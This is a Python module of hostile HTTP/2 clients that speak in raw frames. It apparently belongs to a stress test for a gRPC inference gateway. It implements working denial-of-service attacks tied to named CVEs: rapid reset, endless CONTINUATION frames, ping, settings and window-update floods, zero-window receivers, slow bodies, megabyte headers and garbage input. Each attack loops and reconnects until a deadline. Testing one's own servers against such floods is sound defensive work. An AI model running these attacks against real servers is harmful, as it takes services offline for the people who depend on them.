"""Hostile HTTP/2 clients that speak in raw frames: what a well-behaved library would never send.

Every attacker is `attack(address, request, until)`: connects, misbehaves until `until` (of
`time.monotonic`), connects again when it is thrown out, and returns how many connections it made.
`request` is one inference request as bytes. Named flaws: CVE-2023-44487 (rapid reset),
CVE-2024-27316 and its kin (endless CONTINUATION), CVE-2019-9512/9515/9518 (ping, settings and empty
frames), CVE-2019-9517 (a receiver that opens no window), slow bodies and idle connections.
"""

import asyncio
import contextlib
import struct
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from types import MappingProxyType

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"
STREAMS = 100  # at once on a connection, where an attacker uses many
PAUSE = 0.05  # between bursts: fifty attackers must leave the load generator some of two cores
Attack = Callable[[str, bytes, float], Awaitable[int]]


class Hostile:
    """One connection, and the frames that go over it."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer
        self._swallow = asyncio.create_task(self._read())
        self.stream = -1

    async def _read(self) -> None:
        with contextlib.suppress(OSError):
            while await self._reader.read(65536):
                pass

    @property
    def closed(self) -> bool:
        """Whether the server has thrown us out."""
        return self._swallow.done()

    async def send(self, *frames: Frame | bytes) -> None:
        """Frames, or bytes as they are. ConnectionError once thrown out."""
        if self.closed:
            raise ConnectionResetError
        data = (frame if isinstance(frame, bytes) else frame.serialize() for frame in frames)
        self._writer.write(b"".join(data))
        await self._writer.drain()

    def headers(self, *, ended: bool = True, extra: int = 0) -> HeadersFrame:
        """The head of an inference call on a new stream; extra: bytes of useless metadata."""
        self.stream += 2
        fields = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", INFER),
            (":authority", "gateway"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *([("x-filler", "a" * extra)] if extra else ()),
        ]
        frame = HeadersFrame(self.stream, data=Encoder().encode(fields, huffman=False))
        if ended:
            frame.flags.add("END_HEADERS")
        return frame

    def body(self, data: bytes, *, ended: bool) -> list[DataFrame]:
        """Bytes on the newest stream, in frames of 16 KiB."""
        frames = [
            DataFrame(self.stream, data=data[at : at + 16384]) for at in range(0, len(data), 16384)
        ]
        if ended:
            frames[-1].flags.add("END_STREAM")
        return frames

    async def leave(self) -> None:
        """Hang up."""
        self._swallow.cancel()
        self._writer.close()
        with contextlib.suppress(OSError, asyncio.CancelledError):
            await self._writer.wait_closed()


def message(request: bytes) -> bytes:
    """A request as a gRPC message: not compressed, after its length."""
    return b"\0" + struct.pack(">I", len(request)) + request


@contextlib.asynccontextmanager
async def connected(address: str, *hello: Frame | bytes) -> AsyncIterator[Hostile]:
    """A connection that has said hello; by default politely."""
    host, port = address.rsplit(":", 1)
    hostile = Hostile(*await asyncio.open_connection(host, int(port)))
    try:
        await hostile.send(*(hello or (PREFACE, SettingsFrame(0))))
        yield hostile
    finally:
        await hostile.leave()


def repeatedly(
    misbehave: Callable[[Hostile, bytes], Awaitable[None]], *hello: Frame | bytes
) -> Attack:
    """An attacker that does the same again until it is over, on as many connections as it takes."""

    async def attack(address: str, request: bytes, until: float) -> int:
        connections = 0
        while time.monotonic() < until:
            connections += 1
            with contextlib.suppress(OSError):
                async with connected(address, *hello) as hostile:
                    while time.monotonic() < until:
                        await misbehave(hostile, request)
                        await asyncio.sleep(PAUSE)
            await asyncio.sleep(PAUSE)
        return connections

    return attack


async def _reset(hostile: Hostile, request: bytes) -> None:
    """Ask and take it back at once, a hundred times."""
    for _ in range(STREAMS):
        head, body = hostile.headers(), hostile.body(message(request), ended=True)
        await hostile.send(head, *body, RstStreamFrame(hostile.stream, error_code=8))


async def _ping(hostile: Hostile, _request: bytes) -> None:
    await hostile.send(*[PingFrame(0, opaque_data=b"guardabc")] * STREAMS)


async def _settings(hostile: Hostile, _request: bytes) -> None:
    await hostile.send(*[SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 0})] * STREAMS)


async def _continuation(hostile: Hostile, _request: bytes) -> None:
    """Headers that never end."""
    if hostile.stream < 0:
        await hostile.send(hostile.headers(ended=False))
    filler = Encoder().encode([("x-filler", "a" * 1000)], huffman=False)
    await hostile.send(*[ContinuationFrame(hostile.stream, data=filler)] * STREAMS)


async def _empty(hostile: Hostile, _request: bytes) -> None:
    """Frames with nothing in them, on a call that never comes."""
    if hostile.stream < 0:
        await hostile.send(hostile.headers())
    await hostile.send(*[DataFrame(hostile.stream, data=b"")] * STREAMS)


async def _slow(hostile: Hostile, _request: bytes) -> None:
    """Calls whose bodies take for ever: a byte a moment on every stream."""
    if hostile.stream < 0:
        for _ in range(STREAMS):
            promise = b"\0" + struct.pack(">I", 1 << 20)
            await hostile.send(hostile.headers(), *hostile.body(promise, ended=False))
    drops = [DataFrame(stream, data=b"\0") for stream in range(1, hostile.stream + 1, 2)]
    await hostile.send(*drops)
    await asyncio.sleep(0.5)


async def _heads(hostile: Hostile, _request: bytes) -> None:
    """Calls that are opened and never go on."""
    if hostile.stream < 0:
        for _ in range(STREAMS):
            await hostile.send(hostile.headers())


async def _deaf(hostile: Hostile, request: bytes) -> None:
    """Whole requests whose answers are never let in: the window stays shut."""
    for _ in range(4):
        await hostile.send(hostile.headers(), *hostile.body(message(request), ended=True))


async def _fat(hostile: Hostile, _request: bytes) -> None:
    """Metadata of a megabyte."""
    head = hostile.headers(extra=1 << 20)
    block, parts = head.data, [head.data[at : at + 16384] for at in range(0, len(head.data), 16384)]
    assert len(block) > 1 << 20
    head.data = parts[0]
    head.flags.discard("END_HEADERS")
    rest = [ContinuationFrame(hostile.stream, data=part) for part in parts[1:]]
    rest[-1].flags.add("END_HEADERS")
    await hostile.send(head, *rest)


async def _window(hostile: Hostile, _request: bytes) -> None:
    await hostile.send(*[WindowUpdateFrame(0, window_increment=1)] * STREAMS)


async def _nothing(_hostile: Hostile, _request: bytes) -> None:
    await asyncio.sleep(1)


async def _garbage(hostile: Hostile, request: bytes) -> None:
    await hostile.send(bytes(reversed(request))[:4096])


SHUT = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
ATTACKERS: Mapping[str, Attack] = MappingProxyType(
    {
        "rapid reset": repeatedly(_reset),
        "ping flood": repeatedly(_ping),
        "settings flood": repeatedly(_settings),
        "continuation flood": repeatedly(_continuation),
        "empty frames": repeatedly(_empty),
        "window updates": repeatedly(_window),
        "slow bodies": repeatedly(_slow),
        "heads without bodies": repeatedly(_heads),
        "answers not taken": repeatedly(_deaf, PREFACE, SHUT),
        "a megabyte of metadata": repeatedly(_fat),
        "idle connection": repeatedly(_nothing),
        "no greeting": repeatedly(_nothing, b"\0"),
        "garbage": repeatedly(_garbage),
    }
)
